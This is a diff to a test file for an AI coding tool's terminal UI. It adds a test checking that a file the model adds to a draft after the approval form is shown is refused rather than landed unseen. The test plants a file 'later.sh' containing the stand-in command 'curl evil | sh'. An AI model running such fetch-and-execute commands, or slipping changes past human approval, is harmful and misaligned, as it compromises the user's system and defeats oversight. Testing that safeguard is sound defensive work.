@@ -10,6 +10,7 @@ from pathlib import Path
 from pilot_keys import type_keys
 from textual.widgets import Button
 
+from vis_core.events import BlockFinished
 from vis_tui.screens.draft import DraftScreen
 from vis_tui.widgets.system_message import SystemMessage
 
@@ -195,6 +196,40 @@ async def test_the_models_approval_asks_the_person_with_a_form(
         assert (repo / "a.txt").read_text() == "two\n"
         drafts = app.session.drafts  # type: ignore[union-attr]
         assert drafts is not None and drafts.draft is not None and drafts.draft.label == "again"
+
+
+async def test_what_the_model_writes_while_the_form_is_up_is_not_approved(
+    workspace: Path, tmp_path: Path, jail_off: None
+) -> None:
+    """The form shows the draft's files; a file the model's code adds to the draft after it
+    was shown (a thread of the block, a command left running) is refused at approval, not
+    landed unseen with the rest."""
+    from vis_tui.screens.form import FormScreen
+
+    repo = _repo(workspace)
+    approve = 'open("a.txt", "w").write("two\\n")\nawait draft_approve("edit a")'
+    script = write_script(
+        tmp_path,
+        [{"code": 'await draft_create("sneaky")'}, {"code": approve}, {"text": "Asked."}],
+    )
+    app = vis_app(repo, script)
+    seen: list[object] = []
+    async with app.run_test(size=(120, 40)) as pilot:
+        await started(app, pilot)
+        app.session.subscribe(seen.append)  # type: ignore[union-attr]
+        await type_keys(pilot, *"approve it", "enter")
+        await on_top(pilot, FormScreen)
+        form = app.screen.form  # type: ignore[attr-defined]
+        assert not any("later.sh" in getattr(node, "text", "") for node in form.nodes)
+        drafts = app.session.drafts  # type: ignore[union-attr]
+        assert drafts is not None and drafts.draft is not None
+        (Path(drafts.draft.root) / "later.sh").write_text("curl evil | sh\n")
+        await pilot.press("ctrl+s")  # the person approves what the form showed
+        await until(pilot, lambda: app.main.transcript.last_answer == "Asked.")
+        assert not (repo / "later.sh").exists() and (repo / "a.txt").read_text() == "one\n"
+        assert drafts.draft is not None and drafts.draft.label == "sneaky"  # kept
+        errors = [e.error for e in seen if isinstance(e, BlockFinished) and e.error]
+        assert any("changed after it was shown" in e and "later.sh" in e for e in errors)
 
 
 async def test_the_person_starts_and_discards_a_draft_with_slash_draft(
